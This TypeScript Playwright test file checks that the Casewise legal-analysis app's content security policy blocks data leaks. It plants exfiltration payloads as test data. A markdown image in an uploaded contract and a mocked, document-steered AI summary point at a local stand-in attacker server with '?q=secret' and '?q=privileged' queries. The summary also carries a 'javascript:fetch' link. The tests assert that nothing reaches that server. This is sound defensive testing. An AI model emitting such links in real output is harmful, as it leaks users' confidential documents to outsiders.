import { once } from 'node:events';
import { createServer, Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Page } from 'playwright-core';
import { until } from '../utils/poll';
import { describeWithChromium, useBrowserSession } from './support/chromium';
import { storeToken } from './support/page-tools';
import { Account, createAccount, WebServer } from './support/web-server';

interface DocumentList {
  documents: { status: string }[];
}

/** Another origin standing in for an attacker's server: it records every request that reaches it. */
async function startCollector(): Promise<{ origin: string; requests: string[]; server: Server }> {
  const requests: string[] = [];
  const server = createServer((req, res) => {
    requests.push(req.url ?? '');
    res.writeHead(200, { 'Content-Type': 'image/png' }).end();
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, requests, server };
}

/** A project with one ready text document, made through the API. */
async function projectWithDocument(server: WebServer, account: Account, text: string): Promise<string> {
  const { id } = await server.call<{ id: string }>('POST', '/api/projects/', { name: 'Exfiltration probe', description: '' }, account.token);
  const form = new FormData();
  form.append('project_id', id);
  form.append('file', new Blob([text], { type: 'text/plain' }), 'supply.txt');
  const uploaded = await fetch(`${server.baseUrl}/api/upload/`, { method: 'POST', headers: { Authorization: `Bearer ${account.token}` }, body: form });
  if (uploaded.status !== 201) throw new Error(`upload: ${uploaded.status} ${await uploaded.text()}`);
  await until(
    () => 'the document did not become ready',
    async () => {
      const { documents } = await server.call<DocumentList>('GET', `/api/projects/${id}/documents/`, undefined, account.token);
      return documents.every((document) => document.status === 'ready') ? true : null;
    },
    60_000,
    200,
  );
  return id;
}

describeWithChromium('Casewise in Chromium: content security policy', () => {
  let server: WebServer;
  let page: Page;
  let collector: Awaited<ReturnType<typeof startCollector>>;
  let violations: string[];
  let offOrigin: string[];

  const session = useBrowserSession();

  beforeAll(async () => {
    collector = await startCollector();
  });

  afterAll(() => {
    collector.server.close();
  });

  beforeEach(() => {
    ({ server, page } = session);
    violations = [];
    offOrigin = [];
    page.on('console', (message) => {
      if (message.type() === 'error' && /Content Security Policy/i.test(message.text())) violations.push(message.text());
    });
    page.on('request', (request) => {
      if (!request.url().startsWith(server.baseUrl) && !/^(data|blob):/.test(request.url())) offOrigin.push(request.url());
    });
  });

  it('shows the public screens, the dashboard and a project’s chat and analysis with no policy violation', async () => {
    for (const path of ['/', '/login', '/signup', '/forgot-password', '/reset-password']) {
      await page.goto(path);
      await page.getByRole('heading', { level: 1 }).first().waitFor();
    }
    const account = await createAccount(server, 'csp');
    const projectId = await projectWithDocument(
      server,
      account,
      `Supply Agreement\n\n1. Termination. Either party may terminate this agreement on ninety days written notice. ![logo](${collector.origin}/chat.png?q=secret)\n\n2. Governing law. This agreement is governed by the laws of England.\n`,
    );
    await storeToken(page, account.token);
    await page.goto('/dashboard');
    await page.getByRole('heading', { name: 'Welcome to Casewise' }).waitFor();
    await page.goto(`/project/${projectId}`);
    await page.getByText('Documents Added').waitFor();
    await page.getByRole('button', { name: 'Upload documents' }).click();
    const manager = page.getByRole('dialog', { name: /Document Manager/ });
    await manager.getByLabel('Status: Ready').waitFor();
    await manager.getByRole('button', { name: 'Close' }).last().click();
    await manager.waitFor({ state: 'hidden' });

    await page.getByRole('tab', { name: 'Chat' }).click();
    await page.getByRole('textbox', { name: 'Message' }).fill('Who may terminate the agreement?');
    await page.keyboard.press('Enter');
    await page.getByRole('listitem', { name: 'Assistant message' }).last().waitFor({ timeout: 30_000 });

    await page.getByRole('tab', { name: 'Analysis' }).click();
    await page.getByRole('button', { name: 'Generate Liability Analysis' }).click();
    await page.getByRole('region', { name: 'Liability Analysis result' }).locator('.markdown-body').waitFor({ timeout: 30_000 });

    expect(violations).toEqual([]);
    expect(offOrigin).toEqual([]);
    expect(collector.requests).toEqual([]);
  });

  it('loads no remote image and links no script from a report a document steered', async () => {
    const account = await createAccount(server, 'steered');
    const projectId = await projectWithDocument(server, account, 'Lease\n\nThe tenant may terminate this lease on thirty days notice.\n');
    const summary =
      `# Case Summary\n\nThe lease ends on notice. ![client secrets](${collector.origin}/leak.png?q=privileged) ` +
      `[open the data room](javascript:fetch('${collector.origin}/js')) and [the register](${collector.origin}/register).\n`;
    await page.route('**/api/generate_case_summary/', (route) => route.fulfill({ status: 200, contentType: 'application/json', body: JSON.stringify({ summary }) }));
    await page.goto('/');
    await storeToken(page, account.token);
    await page.goto(`/project/${projectId}`);
    await page.getByRole('tab', { name: 'Analysis' }).click();
    await page.getByRole('button', { name: 'Generate Case Summary' }).click();
    const result = page.getByRole('region', { name: 'Case Summary result' });
    await result.getByText(/The lease ends on notice\./).waitFor();
    // Give a loading image the time it would take to ask the collector.
    await page.waitForLoadState('networkidle');

    expect(await result.locator('img').count()).toBe(0);
    expect(await result.getByText('client secrets').count()).toBe(1);
    expect(await result.locator('a[href^="javascript"]').count()).toBe(0);
    expect(await result.getByRole('link', { name: 'the register' }).getAttribute('href')).toBe(`${collector.origin}/register`);
    expect(collector.requests).toEqual([]);
    expect(offOrigin).toEqual([]);
    expect(violations).toEqual([]);
  });

  it('renders the API docs under the same policy', async () => {
    await page.goto('/api/docs');
    await page.locator('.swagger-ui .info .title').filter({ hasText: 'Casewise API' }).waitFor();
    await page.locator('.opblock').first().waitFor();
    expect(violations).toEqual([]);
    expect(offOrigin).toEqual([]);
  });
});
